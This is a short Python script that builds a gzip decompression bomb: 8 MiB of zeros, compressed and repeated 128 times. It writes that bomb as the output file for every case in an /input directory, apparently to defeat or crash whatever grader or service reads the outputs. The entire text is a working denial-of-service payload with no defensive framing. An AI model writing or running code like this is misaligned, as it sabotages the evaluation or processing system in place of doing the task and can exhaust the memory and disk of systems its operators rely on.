import gzip
import pathlib

bomb = gzip.compress(bytes(8 << 20)) * 128
for case in pathlib.Path("/input").iterdir():
    pathlib.Path("/output", case.name).write_bytes(bomb)
